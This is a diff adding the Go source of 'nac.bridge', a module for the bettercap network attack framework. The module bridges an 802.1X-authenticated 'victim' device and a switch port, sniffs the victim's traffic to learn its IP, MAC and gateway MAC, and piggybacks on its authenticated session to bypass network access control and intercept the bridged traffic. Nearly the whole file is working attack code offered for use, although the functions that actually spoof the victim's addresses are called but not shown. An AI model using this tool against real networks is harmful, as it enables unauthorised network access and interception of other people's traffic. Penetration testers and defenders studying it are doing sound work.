@@ -0,0 +1,319 @@
+// +build linux
+
+package nac_bridge
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"sync"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+// outgoing connection attempts of the victim, used to learn its addresses and the gateway mac
+const learnFilter = "ip and tcp[tcpflags] & (tcp-syn|tcp-ack) == tcp-syn"
+
+type Victim struct {
+	HW        string `json:"mac"`
+	IP        string `json:"ip"`
+	GatewayHW string `json:"gateway_mac"`
+}
+
+type NACBridge struct {
+	session.SessionModule
+
+	bridge      string
+	switchIface string
+	victimIface string
+	address     net.IP
+	gateway     net.IP
+	gatewayHW   net.HardwareAddr
+	bridgeHW    net.HardwareAddr
+	useSession  bool
+	commands    []string
+	victim      *Victim
+	origRoute   []string
+	prevIface   string
+	prevGateway *network.Endpoint
+	teardown    [][]string
+	handle      *pcap.Handle
+	waitGroup   *sync.WaitGroup
+}
+
+func NewNACBridge(s *session.Session) *NACBridge {
+	mod := &NACBridge{
+		SessionModule: session.NewSessionModule("nac.bridge", s),
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	// the frames leaving the bridge are rewritten by its mac address
+	mod.Conflicts("mac.changer")
+
+	mod.AddParam(session.NewStringParameter("nac.bridge.switch",
+		"",
+		"",
+		"Interface connected to the switch port."))
+
+	mod.AddParam(session.NewStringParameter("nac.bridge.victim",
+		"",
+		"",
+		"Interface connected to the authenticated device."))
+
+	mod.AddParam(session.NewStringParameter("nac.bridge.name",
+		"br0",
+		"",
+		"Name of the bridge interface to create."))
+
+	mod.AddParam(session.NewStringParameter("nac.bridge.address",
+		"169.254.66.66",
+		session.IPv4Validator,
+		"Address to assign to the bridge interface, it is never seen on the wire."))
+
+	mod.AddParam(session.NewStringParameter("nac.bridge.gateway.address",
+		"169.254.66.1",
+		session.IPv4Validator,
+		"Fake gateway address used to route our traffic through the bridge, it is never seen on the wire."))
+
+	mod.AddParam(session.NewStringParameter("nac.bridge.gateway.mac",
+		"",
+		`^([0-9a-fA-F]{2}:){5}[0-9a-fA-F]{2}$|^$`,
+		"MAC address of the real gateway, if empty it will be learned from the traffic of the victim."))
+
+	mod.AddParam(session.NewBoolParameter("nac.bridge.session",
+		"true",
+		"If true, once the bridge is ready the session will switch to it so that the other modules will work on the bridged traffic."))
+
+	mod.AddParam(session.NewStringParameter("nac.bridge.commands",
+		"",
+		"",
+		"List of commands separated by a ; to run once the bridge is ready, for instance: net.sniff on; http.proxy on"))
+
+	mod.AddHandler(session.NewModuleHandler("nac.bridge on", "",
+		"Bridge the switch and victim interfaces, learn the addresses of the victim and piggyback on its authenticated session.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("nac.bridge off", "",
+		"Remove the bridge and restore the interfaces.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("nac.bridge.show", "",
+		"Show the addresses learned from the victim.",
+		func(args []string) error {
+			return mod.show()
+		}))
+
+	mod.InitState("victim")
+
+	return mod
+}
+
+func (mod *NACBridge) Name() string {
+	return "nac.bridge"
+}
+
+func (mod *NACBridge) Description() string {
+	return "Transparently bridge an 802.1X authenticated device and the switch, piggyback on its session to bypass NAC and MITM the bridged traffic."
+}
+
+func (mod *NACBridge) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *NACBridge) show() error {
+	if mod.victim == nil {
+		mod.Info("no victim learned yet")
+		return nil
+	}
+
+	rows := [][]string{
+		{"Bridge", fmt.Sprintf("%s (%s <-> %s)", mod.bridge, mod.victimIface, mod.switchIface)},
+		{"Victim", fmt.Sprintf("%s (%s)", tui.Bold(mod.victim.IP), mod.victim.HW)},
+		{"Gateway", mod.victim.GatewayHW},
+		{"Our Address", fmt.Sprintf("%s via %s", mod.address, mod.gateway)},
+	}
+
+	tui.Table(mod.Session.Events.Stdout, []string{"Name", "Value"}, rows)
+	mod.Session.Refresh()
+
+	return nil
+}
+
+func (mod *NACBridge) Configure() (err error) {
+	var address, gateway, gatewayHW, commands string
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, mod.switchIface = mod.StringParam("nac.bridge.switch"); err != nil {
+		return err
+	} else if err, mod.victimIface = mod.StringParam("nac.bridge.victim"); err != nil {
+		return err
+	} else if err, mod.bridge = mod.StringParam("nac.bridge.name"); err != nil {
+		return err
+	} else if err, address = mod.StringParam("nac.bridge.address"); err != nil {
+		return err
+	} else if err, gateway = mod.StringParam("nac.bridge.gateway.address"); err != nil {
+		return err
+	} else if err, gatewayHW = mod.StringParam("nac.bridge.gateway.mac"); err != nil {
+		return err
+	} else if err, mod.useSession = mod.BoolParam("nac.bridge.session"); err != nil {
+		return err
+	} else if err, commands = mod.StringParam("nac.bridge.commands"); err != nil {
+		return err
+	} else if mod.switchIface == "" || mod.victimIface == "" {
+		return fmt.Errorf("both nac.bridge.switch and nac.bridge.victim must be set")
+	} else if mod.switchIface == mod.victimIface {
+		return fmt.Errorf("nac.bridge.switch and nac.bridge.victim must be different interfaces")
+	} else if mod.bridge == "" {
+		return fmt.Errorf("nac.bridge.name can't be empty")
+	}
+
+	for _, name := range []string{mod.switchIface, mod.victimIface} {
+		if _, err = net.InterfaceByName(name); err != nil {
+			return fmt.Errorf("interface %s: %v", name, err)
+		}
+	}
+
+	mod.address = net.ParseIP(address)
+	mod.gateway = net.ParseIP(gateway)
+	mod.gatewayHW = nil
+	if gatewayHW != "" {
+		if mod.gatewayHW, err = net.ParseMAC(gatewayHW); err != nil {
+			return err
+		}
+	}
+
+	mod.commands = session.ParseCommands(commands)
+	mod.victim = nil
+	mod.teardown = make([][]string, 0)
+
+	return nil
+}
+
+// the gateway mac can only be learned from connections to addresses outside of the victim subnet,
+// since we don't know its netmask yet we assume anything outside of its /24 is routed
+func offLink(src net.IP, dst net.IP) bool {
+	return !src.Mask(net.CIDRMask(24, 32)).Equal(dst.Mask(net.CIDRMask(24, 32)))
+}
+
+func (mod *NACBridge) learn(pkt gopacket.Packet) bool {
+	eth, okEth := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	ip, okIP := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4)
+	if !okEth || !okIP || ip.SrcIP.IsUnspecified() || ip.SrcIP.IsLinkLocalUnicast() || bytes.Equal(eth.SrcMAC, mod.bridgeHW) {
+		return false
+	}
+
+	gatewayHW := mod.gatewayHW
+	if gatewayHW == nil {
+		if !offLink(ip.SrcIP, ip.DstIP) {
+			return false
+		}
+		gatewayHW = eth.DstMAC
+	}
+
+	mod.victim = &Victim{
+		HW:        eth.SrcMAC.String(),
+		IP:        ip.SrcIP.String(),
+		GatewayHW: gatewayHW.String(),
+	}
+	mod.State.Store("victim", mod.victim)
+
+	mod.Info("learned victim %s (%s), gateway mac is %s", tui.Bold(mod.victim.IP), mod.victim.HW, tui.Bold(mod.victim.GatewayHW))
+
+	mod.Session.Events.Add("nac.bridge.victim", *mod.victim)
+
+	return true
+}
+
+func (mod *NACBridge) ready() {
+	if mod.useSession {
+		mod.prevIface = mod.Session.Interface.Name()
+		mod.prevGateway = mod.Session.Gateway
+
+		gw := network.NewEndpointNoResolve(mod.gateway.String(), mod.victim.GatewayHW, "", 0)
+		if err := mod.Session.UseInterface(mod.bridge, gw); err != nil {
+			mod.Error("could not switch the session to %s: %v", mod.bridge, err)
+			mod.prevIface = ""
+		}
+	}
+
+	for _, cmd := range mod.commands {
+		if err := mod.Session.Run(cmd); err != nil {
+			mod.Error("%s", err)
+		}
+	}
+}
+
+func (mod *NACBridge) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	} else if err := mod.setupBridge(); err != nil {
+		mod.removeBridge()
+		return err
+	}
+
+	var err error
+	if mod.handle, err = pcap.OpenLive(mod.victimIface, 65536, true, pcap.BlockForever); err != nil {
+		mod.removeBridge()
+		return err
+	} else if err = mod.handle.SetBPFFilter(learnFilter); err != nil {
+		mod.handle.Close()
+		mod.removeBridge()
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("bridging %s and %s on %s, waiting for the victim to connect somewhere ...", mod.victimIface, mod.switchIface, mod.bridge)
+
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		learned := false
+		src := gopacket.NewPacketSource(mod.handle, mod.handle.LinkType())
+		for pkt := range src.Packets() {
+			if !mod.Running() {
+				break
+			} else if learned = mod.learn(pkt); learned {
+				break
+			}
+		}
+
+		if !learned || !mod.Running() {
+			return
+		} else if err := mod.piggyback(); err != nil {
+			mod.Error("could not piggyback on the victim session: %v", err)
+			return
+		}
+
+		mod.Info("traffic from %s is now sent as %s (%s)", mod.bridge, tui.Bold(mod.victim.IP), mod.victim.HW)
+
+		mod.ready()
+	})
+}
+
+func (mod *NACBridge) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.handle.Close()
+		mod.waitGroup.Wait()
+
+		if mod.prevIface != "" {
+			if err := mod.Session.UseInterface(mod.prevIface, mod.prevGateway); err != nil {
+				mod.Error("could not switch the session back to %s: %v", mod.prevIface, err)
+			}
+			mod.prevIface = ""
+		}
+
+		mod.removeBridge()
+	})
+}